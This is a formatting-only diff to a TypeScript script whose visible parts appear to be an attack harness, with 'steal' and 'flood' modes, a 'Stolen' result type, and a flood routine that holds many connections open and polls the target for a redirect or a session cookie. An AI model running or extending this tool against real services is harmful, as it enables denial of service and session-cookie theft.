@@ -55,13 +55,25 @@ function get(url: string, proxy?: string, timeoutMs = 30_000): Promise<Omit<Stol
   const via = proxy ? new URL(proxy) : target;
   return new Promise((resolve, reject) => {
     const req = http.get(
-      { host: via.hostname, port: via.port, path: proxy ? target.href : `${target.pathname}${target.search}`, headers: { host: target.host }, timeout: timeoutMs },
+      {
+        host: via.hostname,
+        port: via.port,
+        path: proxy ? target.href : `${target.pathname}${target.search}`,
+        headers: { host: target.host },
+        timeout: timeoutMs,
+      },
       (res) => {
         let body = '';
         res.setEncoding('utf8');
         res.on('data', (d: string) => (body += d));
         res.on('end', () =>
-          resolve({ url, status: res.statusCode ?? 0, location: res.headers.location ?? null, cookie: res.headers['set-cookie']?.[0] ?? null, text: body.replace(/<[^>]+>/g, ' ') }),
+          resolve({
+            url,
+            status: res.statusCode ?? 0,
+            location: res.headers.location ?? null,
+            cookie: res.headers['set-cookie']?.[0] ?? null,
+            text: body.replace(/<[^>]+>/g, ' '),
+          }),
         );
       },
     );
@@ -105,9 +117,15 @@ async function flood(n: number, url: string): Promise<Omit<Stolen, 'page' | 'pag
     }
     const maxHeld = held.length;
     let last: Omit<Stolen, 'page' | 'pageError'> = { url, status: 0, location: null, cookie: null, text: '' };
-    for (const deadline = Date.now() + 15_000; Date.now() < deadline; ) {
+    for (const deadline = Date.now() + 15_000; Date.now() < deadline;) {
       held.shift()?.destroy();
-      last = await get(url, undefined, 2000).catch((err: unknown) => ({ url, status: 0, location: null, cookie: null, text: err instanceof Error ? err.message : String(err) }));
+      last = await get(url, undefined, 2000).catch((err: unknown) => ({
+        url,
+        status: 0,
+        location: null,
+        cookie: null,
+        text: err instanceof Error ? err.message : String(err),
+      }));
       if (last.status === 302 || last.cookie) break;
       await new Promise((r) => setTimeout(r, 250));
     }
@@ -120,9 +138,11 @@ async function flood(n: number, url: string): Promise<Omit<Stolen, 'page' | 'pag
 if (isMain(import.meta.url)) {
   const [mode, arg, proxy] = process.argv.slice(2);
   const work =
-    mode === 'steal' ? steal(arg ?? '', proxy)
-    : mode === 'flood' ? flood(Number(arg), proxy ?? '')
-    : get(arg ?? '', proxy).then((r) => ({ ...r, page: null, pageError: null }));
+    mode === 'steal'
+      ? steal(arg ?? '', proxy)
+      : mode === 'flood'
+        ? flood(Number(arg), proxy ?? '')
+        : get(arg ?? '', proxy).then((r) => ({ ...r, page: null, pageError: null }));
   work.then(
     (r) => {
       process.stdout.write(`${JSON.stringify(r)}\n`);
